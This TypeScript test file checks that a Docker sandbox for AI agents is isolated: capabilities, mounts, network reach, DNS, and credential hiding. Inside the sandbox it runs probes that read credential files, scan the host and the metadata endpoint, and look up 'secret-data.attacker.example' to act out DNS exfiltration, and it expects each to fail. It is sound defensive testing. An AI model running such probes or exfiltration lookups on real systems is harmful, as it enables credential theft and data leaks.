import { createServer, type AddressInfo } from 'node:net'
import { createSocket } from 'node:dgram'
import { chownSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import t from 'tap'
import { collect } from './fixtures/run.js'
import { docker, DockerGateway, inspect, skipWithoutDocker, tryDocker } from './fixtures/docker.js'

// What a sandbox of the Docker backend is, and what it can reach, on a real engine.

t.setTimeout(600_000)

const POLICY = `
services:
  api:
    url: http://api.test.example
    allow_plaintext: true
    allow_private_addresses: true
    credential: { bearer: "\${API_TOKEN}" }
    rules: [{ allow: GET /** }]
`
const TOKEN = 'ghp_R3alT0kenThatNobodyMaySee0123456789ab'

void t.test('a sandbox on Docker', { skip: skipWithoutDocker() }, async (t) => {
  const gateway = new DockerGateway(POLICY, {}, `API_TOKEN=${TOKEN}\n`)
  t.teardown(() => gateway.down())
  await gateway.up()
  await gateway.upstream('api.test.example')

  await t.test('docker inspect shows every limit', async (t) => {
    const child = gateway.start(['--', 'sleep', '60'])
    const done = collect(child)
    const name = await sandboxOf(gateway)
    const { Config, HostConfig, Mounts, NetworkSettings } = await inspect(name)
    const own = NetworkSettings.Networks[name]?.IPAddress
    const expected: Record<string, unknown> = {
      CapDrop: ['ALL'],
      CapAdd: null,
      ReadonlyRootfs: true,
      Privileged: false,
      SecurityOpt: ['no-new-privileges:true'],
      PidsLimit: 512,
      Memory: 4 * 2 ** 30,
      MemorySwap: 4 * 2 ** 30,
      IpcMode: 'private',
      CgroupnsMode: 'private',
      PidMode: '',
      UTSMode: '',
      // The caller's user, on an engine with userns-remap too; no capability of that user is left.
      UsernsMode: 'host',
      NetworkMode: name,
      PortBindings: {},
      Dns: [neighbour(own, -2)],
      ExtraHosts: [`egress:${neighbour(own, -1)}`, `egress-dns:${neighbour(own, -2)}`],
      Init: true,
      AutoRemove: true,
      RestartPolicy: { Name: 'no', MaximumRetryCount: 0 },
      Devices: [],
      Binds: null,
      VolumesFrom: null,
      GroupAdd: null,
      ShmSize: 64 * 2 ** 20,
    }
    for (const [field, value] of Object.entries(expected)) {
      t.equal(JSON.stringify(HostConfig[field] ?? null), JSON.stringify(value), field)
    }
    t.ok(Number(HostConfig['NanoCpus']) > 0, 'a share of the processors')
    t.match(HostConfig['Sysctls'], { 'net.ipv6.conf.all.disable_ipv6': '1' }, 'no IPv6')
    t.match(HostConfig['LogConfig'], { Type: 'none' }, 'the engine keeps no copy of what it prints')
    t.match(
      HostConfig['Ulimits'],
      [
        { Name: 'core', Hard: 0, Soft: 0 },
        { Name: 'nofile', Hard: 4096, Soft: 4096 },
      ],
      'files, and no core dumps',
    )
    t.equal(Config['User'], process.getuid?.() === 0 ? '1000:1000' : Config['User'])
    t.notMatch(Config['User'], /^0/, 'never root')
    t.strictSame(Object.keys(NetworkSettings.Networks), [name], 'one network')
    for (const mount of Mounts) {
      t.equal(mount.RW, false, `${mount.Destination} is read-only`)
      t.notMatch(mount.Source, /docker\.sock/)
    }
    t.notMatch(JSON.stringify(Config.Env), TOKEN, 'no secret in its environment')
    const [network] = JSON.parse(await docker('network', 'inspect', name)) as [
      { Internal: boolean; EnableIPv6: boolean; Options: object },
    ]
    t.match(network, {
      Internal: true,
      EnableIPv6: false,
      Options: { 'com.docker.network.bridge.inhibit_ipv4': 'true' },
    })
    child.kill('SIGTERM')
    t.equal((await done).code, 143)
    t.strictSame(await gateway.networksLeft(), [])
  })

  await t.test('the gateway itself is as bare', async (t) => {
    for (const role of ['dns', 'proxy'] as const) {
      const { Config, HostConfig, Mounts, State } = await inspect(gateway.container(role))
      t.equal(State.Health?.Status, 'healthy', role)
      t.match(HostConfig, { CapDrop: ['ALL'], ReadonlyRootfs: true, Privileged: false }, role)
      t.match(HostConfig['SecurityOpt'], ['no-new-privileges:true'], role)
      t.equal(Config['User'], '1000:1000')
      t.notMatch(JSON.stringify(Mounts), /docker\.sock/)
    }
    const dns = await inspect(gateway.container('dns'))
    const places = dns.Mounts.map(({ Destination }) => Destination).sort()
    t.strictSame(
      places,
      ['/var/lib/egress/audit-key', '/var/lib/egress/shared', '/var/log/egress'],
      'no policy directory, no .env, no key but one of its own',
    )
    const keyOf = (role: 'dns' | 'proxy') =>
      docker('exec', gateway.container(role), 'cat', '/var/lib/egress/audit-key/audit-key.pub.pem')
    t.not(await keyOf('dns'), await keyOf('proxy'))
    const verify = ['egress', 'logs', 'verify', '--open']
    t.match(await docker('exec', gateway.container('proxy'), ...verify), /\nNothing was changed\n?$/)
    t.notMatch(
      await docker('exec', gateway.container('dns'), 'cat', '/var/lib/egress/shared/policy.yaml'),
      TOKEN,
    )
  })

  await t.test('a request with a placeholder reaches the service with the real credential', async (t) => {
    const said = await gateway.run(
      '--',
      'sh',
      '-c',
      'curl -sS -H "Authorization: Bearer $API_TOKEN" http://api.test.example/one; echo "$API_TOKEN"',
    )
    t.equal(said.code, 0, said.stderr)
    t.match(said.stdout, 'from api.test.example')
    t.notMatch(said.stdout, TOKEN)
    t.match(await gateway.seen(), [{ url: '/one', authorization: `Bearer ${TOKEN}` }])
  })

  await t.test('exit codes are the command’s own', async (t) => {
    t.equal((await gateway.run('--', 'sh', '-c', 'exit 42')).code, 42)
    t.equal((await gateway.run('--', 'no-such-program')).code, 127)
    t.equal((await gateway.run('--', '/etc/hostname')).code, 126)
    const unknown = await gateway.run('--agent', 'nobody', '--', 'true')
    t.equal(unknown.code, 125)
    t.match(unknown.stderr, /^egress: Unknown agent `nobody`\n {2}Choose one with --agent: default$/m)
    t.equal((await gateway.run('--policy', 'x', '--', 'true')).code, 125)
    t.equal((await gateway.run('--limit', 'tmp=lots', '--', 'true')).code, 125)
    t.equal((await gateway.run('--mount', '/var/run/docker.sock', '--', 'true')).code, 125)
    t.equal((await gateway.run('--mount', '/', '--', 'true')).code, 125)
    for (const [words, problem] of [
      [
        ['--limit', 'memory=1'],
        /^egress: --limit `memory=1` is too low to run any command\n {2}Use at least memory=6m/,
      ],
      [
        ['--limit', 'processes=1'],
        /^egress: --limit `processes=1` is too low.*\n {2}Use at least processes=8/,
      ],
      [
        ['--limit', 'cpus=999'],
        /^egress: --limit cpus=999 exceeds the number of processors.*\n {2}Use cpus=/,
      ],
      [['--tty'], /^egress: --tty requires a terminal.*\n {2}Remove/],
    ] as const)
      t.match(await gateway.run(...words, '--', 'true'), { code: 125, stderr: problem })
    const missing = await gateway.run('--', 'no-such-command')
    t.match(missing, { code: 127, stderr: /^egress: Exit code 127: .*\n {2}Use another image with --image/m })
    t.strictSame(await gateway.networksLeft(), [], 'and nothing stays behind')
  })

  await t.test('files: the work directory, what is hidden in it, what may be written', async (t) => {
    writeFileSync(join(gateway.work, '.env'), `API_TOKEN=${TOKEN}\n`)
    writeFileSync(join(gateway.work, '.env.example'), 'API_TOKEN=\n')
    writeFileSync(join(gateway.work, 'server.key'), TOKEN)
    mkdirSync(join(gateway.work, '.aws'), { recursive: true })
    writeFileSync(join(gateway.work, '.aws/credentials'), TOKEN)
    writeFileSync(join(gateway.work, 'settings'), TOKEN)
    symlinkSync('settings', join(gateway.work, '.npmrc'))
    writeFileSync(join(gateway.work, 'egress.yaml'), `# ${TOKEN}\n`)
    writeFileSync(join(gateway.work, 'a b.txt'), 'visible\n')
    const look =
      'cat .env.example "a b.txt"; cat .env server.key .aws/credentials settings .npmrc egress.yaml; echo x > new; echo x > /usr/x; echo x > /etc/resolv.conf; echo ok > /tmp/x && echo ok > ~/x && cat ~/x'
    const { stdout, stderr } = await gateway.run('--', 'sh', '-c', look)
    t.match(stdout, 'visible')
    t.match(stdout, 'API_TOKEN=\n')
    t.match(stdout, /ok\n$/)
    t.notMatch(stdout + stderr, TOKEN)
    t.match(stderr, /^egress: NOTE: egress.yaml in this directory is ignored/)
    rmSync(join(gateway.work, 'egress.yaml'))
    t.equal(stderr.match(/Read-only file system/g)?.length, 3, stderr)
    const written = await gateway.run('--write', '--', 'sh', '-c', 'echo x > new; ls')
    if (process.getuid?.() === 0) {
      t.match(written, {
        code: 125,
        stderr: /The agent cannot write to .*\n {2}Run: chown -R 1000:1000 /,
      })
      chownSync(gateway.work, 1000, 1000)
    }
    t.match((await gateway.run('--write', '--', 'sh', '-c', 'echo x > new; ls')).stdout, 'new')
  })

  await t.test('nobody is reachable but the gateway', async (t) => {
    const listeners = await listenEverywhere()
    const own = await docker(
      'run',
      '-d',
      '--rm',
      '--name',
      `${gateway.project}-other`,
      '--entrypoint',
      'node',
      'agent-egress-sandbox:local',
      '-e',
      "require('node:net').createServer(s=>console.log('reached')||s.end()).listen(7777)",
    )
    t.teardown(async () => {
      listeners.close()
      await tryDocker('rm', '-f', own)
    })
    const other = Object.values((await inspect(own)).NetworkSettings.Networks)[0]?.IPAddress ?? ''
    const bridge = other.replace(/\d+$/, '1')
    const hosts = [...listeners.addresses, bridge, 'host.docker.internal', '169.254.169.254', '192.0.2.1']
    const targets = [
      ...hosts.map((host) => [host, listeners.tcp] as const),
      ...[other].map((host) => [host, 7777] as const),
      ...['192.0.2.53', '198.51.100.53'].flatMap((host) =>
        [53, 443, 853].map((port) => [host, port] as const),
      ),
    ]
    const script = `
      const net = require('node:net'), dgram = require('node:dgram')
      const targets = ${JSON.stringify(targets)}
      const gateway = require('node:os').networkInterfaces().eth0[0].address.replace(/\\d+$/, d => d - 3)
      targets.push([gateway, ${listeners.tcp}], [gateway, 22])
      const tcp = ([host, port]) => new Promise(done => {
        const s = net.connect({ host, port, timeout: 1500 })
        s.on('connect', () => done([host, port, 'connected'])).on('timeout', () => { s.destroy(); done([host, port, 'timeout']) })
        s.on('error', e => done([host, port, e.code]))
      })
      const udp = host => { const s = dgram.createSocket('udp4'); s.on('error', () => {}); s.send('hello', ${listeners.udp}, host, () => setTimeout(() => s.close(), 500)) }
      const net6 = Object.values(require('node:os').networkInterfaces()).flat().filter(a => a.family === 'IPv6')
      for (const [host] of targets) udp(host)
      Promise.all(targets.map(tcp)).then(r => console.log(JSON.stringify({ r, net6 })))
    `
    const { stdout, stderr } = await gateway.run('--', 'node', '-e', script)
    const { r, net6 } = JSON.parse(stdout || '{}') as { r: [string, number, string][]; net6: unknown[] }
    t.ok(r.length > 10, stderr)
    for (const [host, port, result] of r) {
      // A refusal would be an answer: somebody is there.
      t.match(result, /^(timeout|ENETUNREACH|EHOSTUNREACH|ENOTFOUND|EAI_AGAIN)$/, `${host}:${String(port)}`)
    }
    t.strictSame(net6, [], 'no IPv6 address at all')
    t.equal(listeners.heard(), 0, 'the host heard nothing')
    t.notMatch(await docker('logs', own), 'reached')
    // The same listeners, from a container that is not in a sandbox.
    const bare = await tryDocker(
      'run',
      '--rm',
      '--entrypoint',
      'node',
      'agent-egress-sandbox:local',
      '-e',
      `require('node:net').connect(${listeners.tcp}, ${JSON.stringify(bridge)}).on('connect', () => process.exit(0))`,
    )
    t.equal(bare.code, 0, bare.stderr)
    t.ok(listeners.heard() > 0, 'the control was heard')
  })

  await t.test('the resolver’s container has no way out', async (t) => {
    const script = `
      const net = require('node:net')
      const hosts = ['192.0.2.53', '198.51.100.53', '172.17.0.1', '169.254.169.254']
      const tcp = host => new Promise(done => net.connect({ host, port: 53, timeout: 1500 })
        .on('connect', () => done('connected')).on('timeout', () => done('timeout')).on('error', e => done(e.code)))
      const dns = require('node:dns').promises
      const lookUp = name => dns.resolve4(name).then(() => 'resolved', e => e.code)
      Promise.all([...hosts.map(tcp), lookUp('example.com'), lookUp('api.test.example')])
        .then(r => { console.log(JSON.stringify(r)); process.exit() })
      setTimeout(() => process.exit(1), 20000)
    `
    const said = JSON.parse(await docker('exec', gateway.container('dns'), 'node', '-e', script)) as string[]
    for (const result of said.slice(0, 4)) t.match(result, /^(ENETUNREACH|EHOSTUNREACH|timeout)$/)
    for (const result of said.slice(4)) t.notMatch(result, /^resolved$/)
    // Engine 20.10 sets a gateway, the address that `inhibit_ipv4` takes away from the host; later ones set none.
    const gateways = (await docker('exec', gateway.container('dns'), 'cat', '/proc/net/route'))
      .split('\n')
      .slice(1)
      .map((line) => line.split('\t')[2] ?? '')
      .filter((gateway) => gateway !== '00000000')
    const ours = gateway.env['EGRESS_AGENTS_DNS'] ?? ''
    for (const gateway of gateways) {
      const address = [6, 4, 2, 0].map((at) => parseInt(gateway.slice(at, at + 2), 16)).join('.')
      t.equal(address, neighbour(ours, -1), 'nobody’s address')
    }
  })

  await t.test('names: ours, by every resolver that there is', async (t) => {
    const script = `
      const { Resolver } = require('node:dns').promises
      const at = (server, name) => { const r = new Resolver({ timeout: 1500, tries: 1 }); if (server) r.setServers([server]); return r.resolve4(name).then(a => a.join(), e => e.code) }
      Promise.all([at('', 'api.test.example'), at('', 'example.com'), at('127.0.0.11', 'api.test.example'), at('127.0.0.11', 'example.com'), at('127.0.0.11', 'secret-data.attacker.example')])
        .then(r => console.log(JSON.stringify([require('node:os').networkInterfaces().eth0[0].address, ...r])))
    `
    const { stdout, stderr } = await gateway.run('--', 'node', '-e', script)
    const [own = '', ours, unlisted, embedded, ...forwarded] = JSON.parse(stdout || '[]') as string[]
    const proxy = own.replace(/\d+$/, (last) => String(Number(last) - 1))
    t.equal(ours, proxy, stderr)
    t.equal(unlisted, 'ENOTFOUND')
    t.match(
      embedded,
      new RegExp(`^(${proxy}|ETIMEOUT|ESERVFAIL|ECONNREFUSED|ENOTFOUND)$`),
      'the engine’s own leads here or nowhere',
    )
    for (const result of forwarded) t.match(result, /^(ENOTFOUND|ETIMEOUT|ESERVFAIL|ECONNREFUSED|EREFUSED)$/)
    const asked = (await gateway.records()).filter((record) =>
      JSON.stringify(record).includes('attacker.example'),
    )
    t.ok(asked.length === 0 || JSON.stringify(asked).includes('"verdict":"deny"'))
  })
})

/** The one sandbox that runs now. */
async function sandboxOf(gateway: DockerGateway): Promise<string> {
  for (let tries = 0; tries < 200; tries += 1) {
    const name = await docker(
      'ps',
      '--filter',
      `label=io.egress.project=${gateway.project}`,
      '--format',
      '{{.Names}}',
    )
    if (name !== '') return name
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  throw new Error('no sandbox came up')
}

/** The address of another host of the same network, by its distance from the sandbox's. */
function neighbour(address: string | undefined, distance: number): string {
  return (address ?? '').replace(/\d+$/, (last) => String(Number(last) + distance))
}

async function listenEverywhere() {
  let heard = 0
  const tcp = createServer((socket) => {
    heard += 1
    socket.end()
  })
  const udp = createSocket('udp4')
  udp.on('message', () => (heard += 1))
  await new Promise<void>((resolve) => tcp.listen(0, '0.0.0.0', resolve))
  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve))
  const addresses = Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .filter(({ internal, family }) => !internal && family === 'IPv4')
    .map(({ address }) => address)
  return {
    tcp: (tcp.address() as AddressInfo).port,
    udp: udp.address().port,
    addresses,
    heard: () => heard,
    close() {
      tcp.close()
      udp.close()
    },
  }
}
